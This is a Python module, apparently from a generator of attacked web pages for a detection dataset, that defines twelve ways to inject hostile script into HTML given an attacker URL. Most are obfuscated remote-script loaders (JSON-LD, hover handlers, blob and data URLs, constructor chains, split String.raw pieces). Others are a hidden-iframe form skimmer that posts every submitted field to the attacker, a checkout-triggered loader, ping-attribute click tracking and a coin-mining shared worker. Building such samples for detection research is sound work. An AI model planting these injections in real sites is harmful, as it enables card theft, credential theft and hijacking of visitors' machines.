"""Edition 5's injection styles of the `script` family. Each turns an attacker URL into edits of the
page. None is an edition 1-4 style: a JSON-LD block carrying the loader's address, a hover handler
added to one of the page's own links, a modulepreload link read back by a module, a blob: URL made
from fetched code, a data: URL script, a shared worker, the Function constructor reached through
an array method, ping attributes added to the page's links, a MutationObserver waiting for a
payment form, an animationend handler, a String.raw template join, and a skimmer posting form
fields through a hidden frame."""

from __future__ import annotations

import base64
import itertools
import json
import random
from collections.abc import Callable

from ..attack import NotApplicable, Page, insert
from ..markup import Element
from ..splice import Edit

Style = Callable[[Page, str, random.Random], tuple[list[Edit], str]]
PING_MAX = 12  # links that gain a ping attribute


def _add(page: Page, where: str, markup: str) -> tuple[list[Edit], str]:
    at = page.head_end() if where == "head" else page.body_end()
    return [insert(at, markup)], where


def _script_text(url: str, rng: random.Random) -> str:
    v = rng.choice(("n", "k", "r", "h"))
    return (
        f"var {v}=document.createElement('script');{v}.async=!0;{v}.src='{url}';"
        f"document.head.appendChild({v});"
    )


def _ld_json(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    """Structured data whose potentialAction target is the payload; a reader loads it."""
    data = {
        "@context": "https://schema.org",
        "@type": "WebSite",
        "potentialAction": {"@type": "SearchAction", "target": url, "query-input": "required name=q"},
    }
    reader = (
        "document.querySelectorAll('script[type=\"application/ld+json\"]').forEach(function(e){"
        "try{var t=JSON.parse(e.textContent).potentialAction.target;if(/\\.m?js/.test(t)){"
        "var s=document.createElement('script');s.src=t;document.head.appendChild(s);}}catch(x){}});"
    )
    block = f'<script type="application/ld+json">{json.dumps(data)}</script><script>{reader}</script>'
    return _add(page, "head", block)


def _tag_close(page: Page, element: Element) -> int | None:
    """Where the element's start tag ends (its ``>``), when the tag is a plain ``<a ...>``."""
    end = element.inner - 1
    if end <= element.start or page.text[end] != ">" or page.text[end - 1] == "/":
        return None
    return end


def _hover_handler(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    """An onmouseover handler added to one of the page's own links (no new element at all)."""
    links = [
        a
        for a in page.scan.all("a")
        if a.attrs.get("href") and not any(k.startswith("on") for k in a.attrs) and _tag_close(page, a)
    ]
    if not links:
        raise NotApplicable("no link to hook")
    link = rng.choice(links[:30])
    end = _tag_close(page, link)
    assert end is not None
    flag = f"__h{rng.getrandbits(12):03x}"
    handler = (
        f' onmouseover="if(!window.{flag}){{window.{flag}=1;'
        f"var s=document.createElement('script');s.src='{url}';document.body.appendChild(s)}}\""
    )
    return [insert(end, handler)], "existing-link"


def _modulepreload(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    code = "import(document.querySelector('link[rel=modulepreload][data-app]').href);"
    block = f'<link rel="modulepreload" href="{url}" data-app><script type="module">{code}</script>'
    return _add(page, "head", block)


def _blob_src(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    code = (
        f"fetch('{url}',{{credentials:'omit'}}).then(function(r){{return r.blob()}}).then(function(b){{"
        "var s=document.createElement('script');"
        "s.src=URL.createObjectURL(new Blob([b],{type:'text/javascript'}));"
        "document.body.appendChild(s);});"
    )
    return _add(page, "body-end", f"<script>{code}</script>")


def _data_url(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    payload = base64.b64encode(_script_text(url, rng).encode()).decode()
    return _add(
        page,
        rng.choice(("head", "body-end")),
        f'<script src="data:text/javascript;base64,{payload}"></script>',
    )


def _shared_worker(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    """A coin-mining shared worker that keeps running in every tab of the site."""
    code = (
        f"try{{var w=new SharedWorker('{url}',{{name:'sync'}});w.port.start();"
        f"w.port.postMessage({{threads:navigator.hardwareConcurrency||{rng.choice((2, 4))},"
        f"throttle:0.{rng.randint(3, 7)}}});}}catch(e){{}}"
    )
    return _add(page, "body-end", f"<script>{code}</script>")


def _constructor_chain(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    code = json.dumps(_script_text(url, rng))
    method = rng.choice(("filter", "map", "some", "forEach"))
    return _add(page, "body-end", f"<script>[].{method}.constructor({code})();</script>")


def _ping(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    """Ping attributes on the page's own links: every click is reported to the attacker."""
    links = [
        a for a in page.scan.all("a") if a.attrs.get("href") and "ping" not in a.attrs and _tag_close(page, a)
    ]
    if len(links) < 3:
        raise NotApplicable("too few links")
    picked = sorted(rng.sample(links, min(PING_MAX, len(links))), key=lambda a: a.start)
    ends = sorted({end for a in picked if (end := _tag_close(page, a)) is not None})
    return [insert(end, f' ping="{url}"') for end in ends], "existing-links"


def _observer(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    code = (
        "new MutationObserver(function(m,o){if(document.querySelector('input[autocomplete=cc-number],"
        "input[name*=card],form[action*=checkout]')){o.disconnect();var s=document.createElement('script');"
        f"s.src='{url}';document.head.appendChild(s);}}}}).observe(document.documentElement,{{childList:true,subtree:true}});"
    )
    return _add(page, "head", f"<script>{code}</script>")


def _animationend(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    name = f"a{rng.getrandbits(20):05x}"
    markup = (
        f"<style>@keyframes {name}{{from{{opacity:.99}}to{{opacity:1}}}}</style>"
        f'<span style="animation:{name} .01s" onanimationend="var s=document.createElement(\'script\');'
        f"s.src='{url}';document.body.appendChild(s);this.remove()\"></span>"
    )
    return _add(page, "body-end", markup)


def _raw_template(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    cut = [0, *sorted(rng.sample(range(1, len(url) - 1), 3)), len(url)]
    parts = [url[a:b] for a, b in itertools.pairwise(cut)]
    pieces = ",".join(f"String.raw`{p}`" for p in parts)
    code = (
        f"(function(u){{var s=document.createElement('script');s.src=u;document.head.appendChild(s)}})"
        f"([{pieces}].join(''));"
    )
    return _add(page, "body-end", f"<script>{code}</script>")


def _frame_skimmer(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    """Form fields copied on submit into a hidden form posted to a hidden frame."""
    frame = f"f{rng.getrandbits(16):04x}"
    code = (
        "document.addEventListener('submit',function(e){var f=e.target,c=document.createElement('form');"
        f"c.method='post';c.action='{url}';c.target='{frame}';c.style.display='none';"
        "Array.prototype.forEach.call(f.elements,function(i){if(i.name&&i.value){"
        "var h=document.createElement('input');"
        "h.type='hidden';h.name=i.name;h.value=i.value;c.appendChild(h);}});document.body.appendChild(c);c.submit();},true);"
    )
    markup = f'<iframe name="{frame}" width="0" height="0" style="border:0"></iframe><script>{code}</script>'
    return _add(page, "body-end", markup)


STYLES: dict[str, Style] = {
    "ld-json-action-loader": _ld_json,
    "hover-handler-on-own-link": _hover_handler,
    "modulepreload-read-back": _modulepreload,
    "blob-url-script-src": _blob_src,
    "data-url-script-src": _data_url,
    "shared-worker-miner": _shared_worker,
    "array-constructor-chain": _constructor_chain,
    "ping-attribute-on-links": _ping,
    "mutation-observer-checkout": _observer,
    "animationend-handler": _animationend,
    "string-raw-pieces": _raw_template,
    "skimmer-hidden-frame-post": _frame_skimmer,
}
TARGET = {
    "modulepreload-read-back": "module",
    "shared-worker-miner": "worker",
    "ping-attribute-on-links": "collect",
    "skimmer-hidden-frame-post": "collect",
}
ENCODED = frozenset({"data-url-script-src", "string-raw-pieces"})  # the URL is never written out whole
